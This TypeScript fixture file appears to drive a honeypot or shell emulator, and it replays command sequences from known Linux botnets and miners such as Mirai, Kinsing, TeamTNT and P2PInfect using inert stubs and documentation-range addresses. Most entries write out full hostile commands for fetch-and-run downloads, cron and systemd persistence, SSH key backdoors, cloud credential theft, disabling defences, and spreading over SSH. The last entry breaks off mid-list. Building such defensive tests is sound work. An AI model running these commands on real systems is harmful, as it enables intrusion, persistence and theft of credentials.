// Long because it is one table: an entry a family.
// Long because it is one list: a case a line.
/**
 * What known families type into a machine they got into, written after public reports: each step is what the next one
 * of the bot depends on. Addresses are of the documentation ranges, keys and payloads are inert.
 */

export interface Step {
  /** A command of an exec channel, or a typed line. */
  readonly run?: string;
  readonly stdin?: Buffer;
  readonly put?: readonly [path: string, content: Buffer];
  /** What the bot looks for in the output before it goes on. */
  readonly says?: readonly (string | RegExp)[];
  readonly never?: readonly (string | RegExp)[];
  /** The whole of stdout. */
  readonly output?: string;
  readonly status?: number;
}

export interface Script {
  readonly name: string;
  readonly via: 'exec' | 'shell' | 'telnet';
  readonly steps: readonly Step[];
  /** Contents of files that must have been captured. */
  readonly artefacts?: readonly Buffer[];
  /** Addresses of downloads that must have been recorded. */
  readonly downloads?: readonly string[];
  /** Names that a Debian server does not have either. */
  readonly missing?: readonly string[];
}

/** Starts like a program for this machine and does nothing. */
export function inertElf(machine: 'x86_64' | 'arm' | 'mips', mark: string): Buffer {
  const header = Buffer.alloc(64);
  header.write('\x7fELF', 'latin1');
  header[4] = machine === 'x86_64' ? 2 : 1;
  header[5] = machine === 'mips' ? 2 : 1;
  header[6] = 1;
  const number = { x86_64: 62, arm: 40, mips: 8 }[machine];
  if (machine === 'mips') {
    header.writeUInt16BE(2, 16);
    header.writeUInt16BE(number, 18);
  } else {
    header.writeUInt16LE(2, 16);
    header.writeUInt16LE(number, 18);
  }
  return Buffer.concat([header, Buffer.from(mark, 'latin1'), Buffer.from([0, 255, 254, 10, 13, 0])]);
}

/** The lines of `echo -ne` that a loader without any download program types. */
function echoLoad(path: string, content: Buffer, bytesPerLine: number, echo = 'echo -ne'): Step[] {
  const steps: Step[] = [];
  for (let index = 0; index < content.length; index += bytesPerLine) {
    const hex = [...content.subarray(index, index + bytesPerLine)]
      .map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`)
      .join('');
    steps.push({ run: `${echo} '${hex}' ${index === 0 ? '>' : '>>'} ${path}` });
  }
  return steps;
}

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBrDvG2yRSBzE2rNZ4ZsUz7vmB0tK0pSgvL5XcVnK1aR';
const downloader = inertElf('x86_64', 'mirai-dropper');
const perfctl = inertElf('x86_64', 'perfctl');
const redtail = inertElf('x86_64', 'redtail');
const redtailArm = inertElf('arm', 'redtail-arm');
const xmrig = inertElf('x86_64', 'xmrig');
const chaos = inertElf('x86_64', 'chaos');
const teamScript = Buffer.from('#!/bin/bash\necho scan\n');
const setupScript = Buffer.from(`#!/bin/bash
NOARCH=false
ARCH=""
FOLDER=""
if [ -f "$(pwd)/redtail" ]; then rm -rf redtail; fi
ARCH=$(uname -mp)
if echo "$ARCH" | grep -q "x86_64" || echo "$ARCH" | grep -q "amd64"; then ARCH="x86_64"
elif echo "$ARCH" | grep -q "i[3456]86"; then ARCH="i686"
else NOARCH=true; fi
NOEXEC_DIRS=$(cat /proc/mounts | grep 'noexec' | awk '{print $2}')
EXCLUDE=""
for dir in $NOEXEC_DIRS; do EXCLUDE="\${EXCLUDE} -not -path \\"$dir\\" -not -path \\"$dir/*\\""; done
FOLDERS=$(eval find / -maxdepth 2 -type d -user $(whoami) -perm -u=rwx -not -path \\"/tmp/*\\" -not -path \\"/proc/*\\" $EXCLUDE 2>/dev/null)
CURR=\${PWD}
FILENAME=".redtail"
for i in $FOLDERS /tmp /var/tmp /dev/shm; do
  if cd "$i" && touch .testfile && (dd if=/dev/zero of=.testfile2 bs=2M count=1 >/dev/null 2>&1 || truncate -s 2M .testfile2 >/dev/null 2>&1); then
    rm -rf .testfile .testfile2
    cp -r "$CURR"/redtail.* "$i"
    if [ "$CURR" != "$i" ]; then FOLDER=$i; break; fi
  fi
done
if [ $NOARCH = true ]; then echo noarch; else
  cat redtail.$ARCH > $FILENAME; chmod +x $FILENAME; ./$FILENAME ssh
fi
echo "placed $ARCH $([ -n "$FOLDER" ] && echo yes)"
`);
const killer = Buffer.from('#!/bin/bash\npkill kdevtmpfsi\nexit 0\n');

export const SCRIPTS: readonly Script[] = [
  {
    name: 'Mirai loader over Telnet',
    via: 'telnet',
    steps: [
      { run: 'enable' },
      { run: 'system' },
      { run: 'shell' },
      { run: 'sh' },
      { run: '/bin/busybox OWARI', says: ['OWARI: applet not found'] },
      { run: '/bin/busybox ps; /bin/busybox OWARI', says: ['PID', 'OWARI: applet not found'] },
      {
        run: '/bin/busybox cat /proc/mounts; /bin/busybox OWARI',
        says: ['proc /proc proc', 'OWARI: applet not found'],
      },
      {
        run: "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon",
        says: ['kami/dev'],
      },
      {
        run: "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
        says: ['kami/tmp'],
      },
      { run: 'cd /tmp/' },
      {
        run: '/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox OWARI',
        says: ['OWARI: applet not found'],
      },
      { run: '/bin/busybox cat /bin/echo', says: ['\x7fELF\x02\x01\x01'] },
      { run: '/bin/busybox wget; /bin/busybox tftp; /bin/busybox OWARI', says: ['OWARI: applet not found'] },
      ...echoLoad('upnp', downloader, 24, '/bin/busybox echo -ne'),
      {
        run: '/bin/busybox chmod 777 upnp; ./upnp; /bin/busybox OWARI',
        says: ['OWARI: applet not found'],
        never: ['Permission denied', 'not found\r\n/'],
      },
      { run: './dvrHelper telnet.x86; /bin/busybox IHCCE', says: ['IHCCE: applet not found'] },
    ],
    artefacts: [downloader],
    missing: ['system', 'shell'],
  },
  {
    name: 'Mozi over Telnet: architecture by dd, cat and read, then wget',
    via: 'telnet',
    steps: [
      { run: 'sh' },
      { run: '>/tmp/.ptmx && cd /tmp/; >/var/tmp/.ptmx && cd /var/tmp/; >/dev/shm/.ptmx && cd /dev/shm/' },
      { run: '/bin/busybox rm -rf .ptmx; pwd', says: ['/dev/shm'] },
      { run: '/bin/busybox cp /bin/sh .i; /bin/busybox chmod 777 .i; ls -la .i', says: ['-rwxrwxrwx'] },
      {
        run: 'dd bs=52 count=1 if=/bin/ls || cat /bin/ls || while read i; do printf $i; done < /bin/ls',
        says: ['\x7fELF\x02\x01\x01', '1+0 records in', '52 bytes copied'],
      },
      { run: '/bin/busybox MOZI || (cd /tmp; echo gone on)', says: ['MOZI: applet not found', 'gone on'] },
      {
        run: 'wget http://198.51.100.23:38412/i; curl -O http://198.51.100.23:38412/i; /bin/busybox wget http://198.51.100.23:38412/bin.sh',
        says: ['198.51.100.23'],
      },
      { run: 'chmod 777 i; (cp /proc/self/exe .x; true); >.x; echo ready$((41+1))', says: ['ready42'] },
    ],
    downloads: ['http://198.51.100.23:38412/i', 'http://198.51.100.23:38412/bin.sh'],
  },
  {
    name: 'Gafgyt one-liner with every downloader',
    via: 'exec',
    steps: [
      {
        run: 'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.77/axisbins.sh; curl -O http://203.0.113.77/axisbins.sh; chmod 777 axisbins.sh; sh axisbins.sh; tftp 203.0.113.77 -c get axistftp1.sh; chmod 777 axistftp1.sh; sh axistftp1.sh; tftp -r axistftp2.sh -g 203.0.113.77; busybox wget http://203.0.113.77/b.sh; ftpget -v -u anonymous -p anonymous -P 21 203.0.113.77 axisftp1.sh axisftp1.sh; sh axisftp1.sh; rm -rf axisbins.sh axistftp1.sh axistftp2.sh axisftp1.sh; rm -rf *; echo \\"end\\"$?',
        says: ['"end"0'],
      },
      { run: 'ls -A /tmp | grep -c axis', output: '0\n' },
    ],
    downloads: ['http://203.0.113.77/axisbins.sh', 'http://203.0.113.77/b.sh'],
    missing: ['tftp', 'ftpget'],
  },
  {
    name: 'XorDDoS installation',
    via: 'exec',
    steps: [
      {
        run: 'export PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin; cat /proc/version',
        says: ['Linux version', 'debian'],
      },
      { run: 'ls -la /var/run/sftp.pid', status: 2 },
      { put: ['/lib/libudev4.so.6', inertElf('x86_64', 'xorddos')] },
      {
        run: 'chmod 0755 /lib/libudev4.so.6; cp /lib/libudev4.so.6 /usr/bin/ygljglkjgfg0; chmod 0755 /usr/bin/ygljglkjgfg0; cksum < /usr/bin/ygljglkjgfg0 | cut -d" " -f2',
        output: '77\n',
      },
      {
        run: "printf '#!/bin/sh\\n# chkconfig: 12345 90 90\\n### BEGIN INIT INFO\\n# Provides: ygl\\n### END INIT INFO\\ncase $1 in\\nstart)\\n\\t/usr/bin/ygljglkjgfg0\\n\\t;;\\nesac\\n' > /etc/init.d/ygljglkjgfg0; chmod 755 /etc/init.d/ygljglkjgfg0; for r in 1 2 3 4 5; do ln -sf /etc/init.d/ygljglkjgfg0 /etc/rc$r.d/S90ygljglkjgfg0; done; ls /etc/rc3.d | grep -c S90ygl; readlink /etc/rc5.d/S90ygljglkjgfg0",
        output: '1\n/etc/init.d/ygljglkjgfg0\n',
      },
      {
        run: 'cat > /etc/cron.hourly/gcc.sh <<"X"\n#!/bin/sh\nPATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin\nfor i in `cat /proc/net/dev|grep :|awk -F: {\'print $1\'}`; do ifconfig $i up& done\ncp /lib/libudev4.so /lib/libudev4.so.6\n/lib/libudev4.so.6\nX\nchmod 755 /etc/cron.hourly/gcc.sh; wc -l < /etc/cron.hourly/gcc.sh',
        output: '5\n',
      },
      {
        run: "sed -i '/\\/etc\\/cron.hourly\\/gcc.sh/d' /etc/crontab && echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >> /etc/crontab && tail -1 /etc/crontab",
        output: '*/3 * * * * root /etc/cron.hourly/gcc.sh\n',
      },
      { run: 'chkconfig --add ygljglkjgfg0 2>/dev/null; update-rc.d ygljglkjgfg0 defaults; echo $?', says: ['0'] },
      { run: 'nohup /usr/bin/ygljglkjgfg0 >/dev/null 2>&1 & echo started', output: 'started\n' },
    ],
    artefacts: [inertElf('x86_64', 'xorddos')],
    missing: ['chkconfig', 'ifconfig'],
  },
  {
    name: 'Outlaw, nineteen commands',
    via: 'exec',
    steps: [
      { run: 'cd ~; chattr -ia .ssh; lockr -ia .ssh', status: 127 },
      {
        run: `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${KEY} mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
        output: '',
        status: 0,
      },
      {
        run: 'stat -c "%a %n" .ssh .ssh/authorized_keys; cat .ssh/authorized_keys',
        output: `700 .ssh\n600 .ssh/authorized_keys\n${KEY} mdrfckr\n`,
      },
      { run: 'cat /proc/cpuinfo | grep name | wc -l', says: [/^[1-9]\d*\n$/] },
      { run: 'echo "root:W7kQp2LmZx4v"|chpasswd|bash', output: '', status: 0 },
      {
        run: 'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;',
        output: '',
      },
      { run: "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'", says: [/\S+ \S+/] },
      { run: "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", says: [/^\d+ \d+ \d+ \d+ \d+ \d+\n$/] },
      { run: 'ls -lh $(which ls)', says: ['-rwxr-xr-x 1 root root 148K'] },
      { run: 'which ls', output: '/usr/bin/ls\n' },
      { run: 'crontab -l' },
      { run: 'w', says: ['load average', 'LOGIN@'] },
      { run: 'uname -m', output: 'x86_64\n' },
      { run: 'cat /proc/cpuinfo | grep model | grep name | wc -l', says: [/^[1-9]/] },
      { run: 'top', status: 1 },
      { run: 'uname', output: 'Linux\n' },
      { run: 'uname -a', says: [/^Linux \S+ 6\.1\.0-\d+-amd64 #1 SMP PREEMPT_DYNAMIC Debian/] },
      { run: 'whoami', output: 'root\n' },
      { run: 'lscpu | grep Model', says: ['Model name:'] },
      { run: "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", says: [/^[\d.]+[MG]\n$/] },
    ],
    missing: ['lockr'],
  },
  {
    name: 'dota: archive by SFTP, unpacked and started',
    via: 'exec',
    steps: [
      { run: 'cat /proc/cpuinfo | grep name | head -n 1' },
      { run: 'echo -e "admin123\\nb6GtYhNm1\\nb6GtYhNm1"|passwd|bash' },
      {
        run: 'echo "321" > /var/tmp/.var03522123; cat /var/tmp/.var03522123 | head -n 1; rm -rf /var/tmp/.var03522123; cat /var/tmp/.var03522123',
        output: '321\n',
        status: 1,
      },
      {
        put: [
          '/tmp/dota3.tar.gz',
          // tar -cz of .rsync/initall, which says "dota".
          Buffer.from(
            'H4sIAAAAAAAAA+3OMQrCQBCF4ak9xeYG2V1312N4hShBhMCKxEJP7wqCkkILEwTxb97rZnJWfWHKMS0OqbSJJS/Nc/e7VWnkVaTkMGxk7WOQZmbM1XjOhfa6PWx2r/+/9/+jnE9n/aoyH2iWNpfmcb9o2xTtrtfo8hd/3bdMAAAAAAAAAAAAAAAAAAC+OwGCSXlwACgAAA==',
            'base64',
          ),
        ],
      },
      { run: 'cd /tmp; ls -la dota3.tar.gz; file dota3.tar.gz', says: ['gzip compressed data'] },
      { run: 'rm -rf /var/tmp/dota*; sleep 1; nproc', says: [/^[1-9]/] },
    ],
  },
  {
    name: 'RedTail: uploads, clean.sh, setup.sh',
    via: 'exec',
    steps: [
      { put: ['redtail.x86_64', redtail] },
      { put: ['redtail.arm7', redtailArm] },
      {
        put: [
          'clean.sh',
          Buffer.from(
            '#!/bin/bash\nclean_crontab() {\n  chattr -ia "$1"\n  grep -vE \'wget|curl|/dev/tcp|/tmp|\\.sh|nc|bash -i|sh -i|base64 -d\' "$1" >/tmp/clean_crontab\n  mv /tmp/clean_crontab "$1"\n}\nsystemctl disable c3pool_miner\nsystemctl stop c3pool_miner\nchattr -ia /var/spool/cron/crontabs\nfor user_cron in /var/spool/cron/crontabs/*; do [ -f "$user_cron" ] && clean_crontab "$user_cron"; done\nfor system_cron in /etc/crontab /etc/cron.d/*; do [ -f "$system_cron" ] && clean_crontab "$system_cron"; done\nrm -rf /tmp/*\n',
          ),
        ],
      },
      { put: ['setup.sh', setupScript] },
      {
        run:
          'chmod +x clean.sh; sh clean.sh; rm -rf clean.sh; chmod +x setup.sh; bash setup.sh; rm -rf setup.sh; mkdir -p ~/.ssh; chattr -ia ~/.ssh/authorized_keys; ' +
          `echo "${KEY} rsa-key-20230629" > ~/.ssh/authorized_keys; chattr +ai ~/.ssh/authorized_keys; uname -a; echo -e "\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A"`,
        says: ['placed x86_64 yes\n', 'auth_ok\n', 'Linux '],
      },
      { run: 'lsattr ~/.ssh/authorized_keys', says: [/^----ia-+e?-* \S+authorized_keys\n$/] },
      { run: 'echo more >> ~/.ssh/authorized_keys', says: ['Operation not permitted'], status: 1 },
      { run: 'ps aux | grep -c "[r]edtail"', says: [/^[1-9]/] },
    ],
    artefacts: [redtail, redtailArm, setupScript],
  },
  {
    name: 'Kinsing d.sh: defences off, rivals out, cron in',
    via: 'exec',
    steps: [
      {
        run: "ulimit -n 65535; rm -rf /var/log/syslog; chattr -iua /tmp/; chattr -iua /var/tmp/; ufw disable; iptables -F; echo \"nope\" >/dev/null; sudo sysctl kernel.nmi_watchdog=0; echo '0' >/proc/sys/kernel/nmi_watchdog; echo 'kernel.nmi_watchdog=0' >>/etc/sysctl.conf; tail -1 /etc/sysctl.conf",
        says: ['kernel.nmi_watchdog=0'],
      },
      {
        run: 'userdel akay; userdel vfinder; setenforce 0; echo SELINUX=disabled >/etc/selinux/config; service apparmor stop; systemctl disable apparmor; service aliyun.service stop; systemctl disable aliyun.service; echo done',
        says: ['done'],
      },
      {
        run: "ps aux | grep -v grep | grep 'aegis' | awk '{print $11}' | xargs dirname | xargs rm -rf; ps aux | grep -v grep | grep hids | awk '{print $11}' | xargs dirname; echo passed",
        says: ['passed\n'],
      },
      {
        run: "netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %; ss -antp | grep 3333 | wc -l; pkill cpuminer; pkill -x xmr; ps ax -o command= -o pid= | grep -c init",
        says: [/[1-9]/],
      },
      {
        run: 'md5sum /tmp/kinsing 2>/dev/null | awk \'{ print $1 }\'; BIN_MD5="b3039abf2ad5202f4a9363b418002351"; BIN_FULL_PATH=/tmp/kinsing; checkExists() { CHECK_PATH=$1; MD5=$2; sum=$(md5sum $CHECK_PATH | awk \'{ print $1 }\'); retval=""; if [ "$MD5" = "$sum" ]; then echo >&2 "$CHECK_PATH is $MD5"; retval="true"; else echo >&2 "$CHECK_PATH is not $MD5, actual $sum"; retval="false"; fi; echo "$retval"; }; echo "r=$(checkExists $BIN_FULL_PATH $BIN_MD5)"',
        says: ['r=false\n'],
      },
      {
        run: "crontab -l | sed '/update.sh/d' | crontab -; crontab -l | sed '/logo4/d' | crontab -; crontab -l 2>/dev/null | grep -e \"185.191.32.198\" | grep -v grep; if [ $? -eq 0 ]; then echo 'cron good'; else (crontab -l 2>/dev/null; echo \"* * * * * wget -q -O - http://192.0.2.198/d.sh | bash > /dev/null 2>&1\") | crontab -; fi; crontab -l",
        says: ['* * * * * wget -q -O - http://192.0.2.198/d.sh | bash'],
      },
      {
        run: 'if [ -x "$(command -v curl)" ]; then WGET="curl -o"; else WGET="wget -O"; fi; $WGET /etc/kinsing http://192.0.2.198/kinsing; chmod +x /etc/kinsing; echo "[Unit]\nDescription=bot" > /lib/systemd/system/bot.service; systemctl daemon-reload; systemctl enable bot.service; echo history -c > ~/.bash_history; history -c',
      },
    ],
    downloads: ['http://192.0.2.198/kinsing'],
    missing: ['ufw', 'setenforce'],
  },
  {
    name: 'TeamTNT: cloud credentials, second root, preload',
    via: 'exec',
    steps: [
      { run: 'unset HISTFILE; export LC_ALL=C; [ "$(id -u)" = "0" ] && echo isroot', output: 'isroot\n' },
      {
        run: 'cat /root/.aws/credentials /home/*/.aws/credentials 2>/dev/null; cat ~/.docker/config.json 2>/dev/null; env | grep -iE "aws|secret|token" ; curl -s --max-time 5 http://169.254.169.254/latest/meta-data/iam/security-credentials/; echo checked',
        says: ['checked\n'],
      },
      {
        run: "useradd -o -u 0 -g 0 -d /home/hilde -s /bin/bash -m -p '$6$saltsalt$lk6d1sVQ0RrdKuUsOWLnd9mBIZ2sJgbPmGLBKdhLqmKtpGbg5.tEg1YhCoWCcqmUV1Hkb3VYcRNDHGpVyPjJy0' hilde; grep ^hilde /etc/passwd",
        output: 'hilde:x:0:0::/home/hilde:/bin/bash\n',
      },
      {
        run:
          "echo 'hilde  ALL=(ALL:ALL) NOPASSWD:ALL' >> /etc/sudoers; mkdir -p /home/hilde/.ssh; echo '" +
          KEY +
          "' > /home/hilde/.ssh/authorized_keys; sed -i 's/#PermitRootLogin.*/PermitRootLogin yes/; s/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config; grep ^PermitRoot /etc/ssh/sshd_config; systemctl restart ssh; echo rc$?",
        says: ['PermitRootLogin yes', 'rc0'],
      },
      {
        run: `echo ${teamScript.toString('base64')} | base64 -d > /usr/bin/tntscan; chmod +x /usr/bin/tntscan; tntscan`,
        output: 'scan\n',
      },
      {
        run: 'echo /usr/local/lib/systemhealt.so > /etc/ld.so.preload; cat /etc/ld.so.preload; lsmod | grep -c diamorphine; rm -f /etc/ld.so.preload',
        says: ['/usr/local/lib/systemhealt.so'],
      },
      {
        run: 'apt-get update --fix-missing 2>/dev/null >/dev/null; DEBIAN_FRONTEND=noninteractive apt-get install -y wget curl jq make gcc >/dev/null 2>&1; type wget curl | wc -l',
        output: '2\n',
      },
      {
        run: 'for f in /root/.ssh/id_rsa /home/*/.ssh/id_rsa; do [ -f $f ] && cat $f; done; cat /root/.ssh/known_hosts 2>/dev/null | cut -d" " -f1 | sort -u; cat ~/.bash_history | grep -oE "([0-9]{1,3}\\.){3}[0-9]{1,3}" | sort -u | head; echo lateral',
        says: ['lateral\n'],
      },
      {
        run: "mv /usr/bin/ps /usr/bin/ps.original; printf '#!/bin/bash\\nps.original $@ | grep -v tntscan\\n' > /usr/bin/ps; chmod +x /usr/bin/ps; ps aux | head -1",
        says: ['USER'],
      },
    ],
    artefacts: [teamScript],
  },
  {
    name: 'Chaos: binary, profile.d, service',
    via: 'exec',
    steps: [
      { put: ['/tmp/linux_amd64', chaos] },
      { run: 'cd /tmp; chmod 777 linux_amd64; ./linux_amd64 & sleep 1; ps -e | grep -c linux_amd64', output: '1\n' },
      {
        run: 'cp /tmp/linux_amd64 /etc/id.services.conf; cp /tmp/linux_amd64 /boot/System.img.config; echo "#!/bin/bash\n/boot/System.img.config" > /etc/profile.d/bash.cfg.sh; cp /tmp/linux_amd64 /etc/profile.d/bash.cfg; chmod +x /etc/profile.d/bash.cfg*; ls /etc/profile.d | grep -c bash.cfg',
        output: '2\n',
      },
      {
        run: "cat > /etc/systemd/system/linux.service <<'EOF'\n[Unit]\nDescription=linux\n[Service]\nType=forking\nExecStart=/boot/System.img.config\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl daemon-reload && systemctl enable linux.service && systemctl start linux.service; systemctl is-enabled linux.service",
        says: ['Created symlink /etc/systemd/system/multi-user.target.wants/linux.service', 'enabled\n'],
      },
      {
        run: 'echo "*/1 * * * * root /.mod" >> /etc/crontab; renice -20 $$ >/dev/null 2>&1; mount -o bind /tmp /proc/$$ 2>/dev/null; umount /proc/$$ 2>/dev/null; service cron restart; echo $?',
        says: ['0\n'],
      },
    ],
    artefacts: [chaos],
  },
  {
    name: '8220: names from date, downloads by function, spreading by known hosts',
    via: 'exec',
    steps: [
      {
        run: 'cc="http://203.0.113.42"; sys=$(date|md5sum|awk -v n="$(date +%s)" \'{print substr($1,1,n%7+6)}\'); echo ${#sys}',
        says: [/^([6-9]|1[0-2])\n$/],
      },
      {
        run: 'get() { curl -k $1>$2 || wget --no-check-certificate -q -O- $1>$2 || python3 -c "import sys" >/dev/null; chmod +x $2; }; cd /tmp && get http://203.0.113.42/xms dbused; ls -l dbused | cut -c1-10',
        says: ['-rwxr-xr-x'],
      },
      {
        run: "for i in $(ls /proc|grep '[0-9]'|head -40); do if ls -al /proc/$i/exe 2>/dev/null | grep kdevtmpfsi 2>/dev/null; then kill -9 $i; fi; done; ps aux | grep -v grep | awk '{if($3>40.0) print $2}' | while read p; do kill -9 $p; done; echo swept",
        output: 'swept\n',
      },
      {
        run: 'HOSTS=$(cat ~/.ssh/known_hosts /home/*/.ssh/known_hosts 2>/dev/null | grep -oP "([0-9]{1,3}\\.){3}[0-9]{1,3}" | uniq); KEYS=$(find ~/ /root /home -maxdepth 2 -name \'id_rsa*\' 2>/dev/null | grep -vw pub); for h in $HOSTS; do for k in $KEYS; do ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $k root@$h "true" >/dev/null 2>&1; done; done; echo spread',
        says: ['spread\n'],
      },
      {
        run: 'echo -e "*/10 * * * * root (curl -s http://203.0.113.42/xms||wget -q -O - http://203.0.113.42/xms)|bash -sh; rm -rf /tmp/x\\n##" > /etc/cron.d/nginx; cat /etc/cron.d/nginx | wc -l; mkdir -p /var/spool/cron/crontabs; touch -r /bin/sh /etc/cron.d/nginx; stat -c %y /etc/cron.d/nginx | cut -c1-4',
        says: ['2\n20'],
      },
    ],
    downloads: ['http://203.0.113.42/xms'],
  },
  {
    name: 'Muhstik: pty names, inittab, rc.local',
    via: 'exec',
    steps: [
      { put: ['/dev/shm/pty3', inertElf('x86_64', 'muhstik')] },
      {
        run: 'cd /dev/shm; chmod +x pty3; ./pty3 > /dev/null 2>&1 & (sleep 0.2; cp /dev/shm/pty3 /var/tmp/pty3; cp /dev/shm/pty3 /var/run/pty3; ls /var/tmp/pty3 /run/pty3)',
        output: '/run/pty3\n/var/tmp/pty3\n',
      },
      {
        run: "[ -f /etc/rc.local ] || printf '#!/bin/sh -e\\nexit 0\\n' > /etc/rc.local; sed -i '/exit 0/i /var/tmp/pty3 &' /etc/rc.local; chmod +x /etc/rc.local; grep -n pty3 /etc/rc.local",
        output: '2:/var/tmp/pty3 &\n',
      },
      {
        run: 'echo "0:2345:respawn:/dev/shm/pty3" >> /etc/inittab; (crontab -l; for d in /dev/shm /var/tmp; do echo "* * * * * $d/pty3 > /dev/null 2>&1 &"; done) 2>/dev/null | crontab -; crontab -l | grep -c pty3',
        output: '2\n',
      },
      {
        run: 'iptables -F; iptables -A INPUT -p tcp --dport 22 -s 198.51.100.0/24 -j ACCEPT; iptables -L -n | grep -c 198.51.100',
        says: [/^1\n$/],
      },
    ],
    artefacts: [inertElf('x86_64', 'muhstik')],
    missing: ['iptables'],
  },
  {
    name: 'Prometei: report about the machine, service uplugplay',
    via: 'exec',
    steps: [
      {
        run: 'uname -a; cat /etc/os-release | grep PRETTY; cat /etc/*release* | head -3',
        says: ['PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"'],
      },
      { run: 'dmidecode --type baseboard; dmidecode -t system', says: ['dmidecode 3.4', 'System Information'] },
      {
        run: 'cat /proc/cpuinfo | grep "model name" | uniq | cut -d: -f2; cat /proc/meminfo | grep MemTotal; uptime',
        says: ['MemTotal:', 'load average'],
      },
      { put: ['/usr/sbin/uplugplay', inertElf('x86_64', 'prometei')] },
      {
        run: 'chmod 755 /usr/sbin/uplugplay; echo "9F2C4B" > /etc/CommId; printf "[Unit]\\nDescription=UPlugPlay\\nAfter=multi-user.target\\n[Service]\\nType=forking\\nExecStart=/usr/sbin/uplugplay\\n[Install]\\nWantedBy=multi-user.target\\n" > /usr/lib/systemd/system/uplugplay.service; systemctl enable uplugplay; systemctl start uplugplay; systemctl status uplugplay | grep -c "Loaded: loaded"',
        says: ['1\n'],
      },
      {
        run: 'crontab -l 2>/dev/null > /tmp/.c; echo "@reboot /usr/sbin/uplugplay -cron" >> /tmp/.c; crontab /tmp/.c; crontab -l | tail -1',
        output: '@reboot /usr/sbin/uplugplay -cron\n',
      },
    ],
    artefacts: [inertElf('x86_64', 'prometei')],
  },
  {
    name: 'perfctl: hidden in /tmp, profile, wrappers',
    via: 'exec',
    steps: [
      {
        run: `echo ${perfctl.toString('base64')}|base64 -d>/tmp/httpd;chmod +x /tmp/httpd;/tmp/httpd;sha256sum /tmp/httpd|cut -c1-8`,
        says: [/[0-9a-f]{8}\n$/],
      },
      {
        run: 'mkdir -p /tmp/.perf.c /tmp/.xdiag /bin/.local/bin; cp /tmp/httpd /tmp/.perf.c/sh; mv /tmp/httpd /usr/bin/perfcc; ln -s /usr/bin/perfcc /usr/bin/wizlmsh; ls -la /usr/bin/wizlmsh',
        says: ['/usr/bin/wizlmsh -> /usr/bin/perfcc'],
      },
      {
        run: "echo '[ -x /usr/bin/perfcc ] && AAZHDE=1 /usr/bin/perfcc >/dev/null 2>&1' >> ~/.profile; tail -1 ~/.profile | cut -c1-4",
        output: '[ -x\n',
      },
      {
        run: 'for b in ldd top crontab lsof; do printf \'#!/bin/bash\\nexec /usr/bin/%s "$@" | grep -v perf\\n\' $b > /bin/.local/bin/$b; chmod +x /bin/.local/bin/$b; done; ls /bin/.local/bin | tr "\\n" " "',
        output: 'crontab ldd lsof top ',
      },
      {
        run: 'getconf LONG_BIT; id -u; cat /proc/1/cgroup | head -1; ls /.dockerenv 2>/dev/null; systemd-detect-virt; mount | grep " / "',
        says: ['64\n0\n0::/', ' on / type '],
      },
    ],
    artefacts: [perfctl],
  },
  {
    name: 'P2PInfect: /dev/tcp, its own key, sshd_config',
    via: 'exec',
    steps: [
      {
        run: 'timeout 6 bash -c \'exec 6<>/dev/tcp/192.0.2.61/60101 && echo -n "GET /linux" >&6 && cat 0<&6 > /tmp/bash && chmod +x /tmp/bash && /tmp/bash\'; echo over',
        says: ['over\n'],
      },
      { run: "mount | grep -v noexec | grep -c 'type ext4\\|type tmpfs'", says: [/^[1-9]/] },
      {
        run: `mkdir -p /root/.ssh; echo ' ' >> /root/.ssh/authorized_keys; echo '${KEY} root@localhost.localdomain' >> /root/.ssh/authorized_keys; sed -i -e '/^PasswordAuthentication/d' -e '/^#\\?PubkeyAuthentication/d' /etc/ssh/sshd_config; printf 'PubkeyAuthentication yes\\nPasswordAuthentication no\\n' >> /etc/ssh/sshd_config; sshd -t && tail -2 /etc/ssh/sshd_config`,
        output: 'PubkeyAuthentication yes\nPasswordAuthentication no\n',
      },
      {
        run: 'for u in $(awk -F: \'$3>=1000 && $7 !~ /nologin|false/ {print $1}\' /etc/passwd); do echo "$u:Zq9$RANDOM" | chpasswd; passwd -S $u | cut -d" " -f2; done | sort -u',
        output: 'P\n',
      },
      {
        run: 'echo "* * * * * /tmp/bash" | crontab -; echo \'/tmp/bash & disown\' >> ~/.bash_logout; tail -1 ~/.bash_logout',
        output: '/tmp/bash & disown\n',
      },
    ],
  },
  {
    name: 'key dropper that checks its work',
    via: 'shell',
    steps: [
      { run: 'export HISTFILE=/dev/null; unset HISTFILE; set +o history', never: ['not found'] },
      {
        run: 'cd ~; rm -rf .ssh; mkdir .ssh; chmod 700 .ssh; touch .ssh/authorized_keys; chmod 600 .ssh/authorized_keys',
      },
      { run: `cat >> .ssh/authorized_keys << EOF\r${KEY} k\rEOF` },
      {
        run: 'chattr +i .ssh/authorized_keys; lsattr -d .ssh/authorized_keys; md5sum .ssh/authorized_keys; wc -l .ssh/authorized_keys',
        says: ['----i---', '1 .ssh/authorized_keys'],
      },
      { run: 'rm -f .ssh/authorized_keys', says: ['Operation not permitted'] },
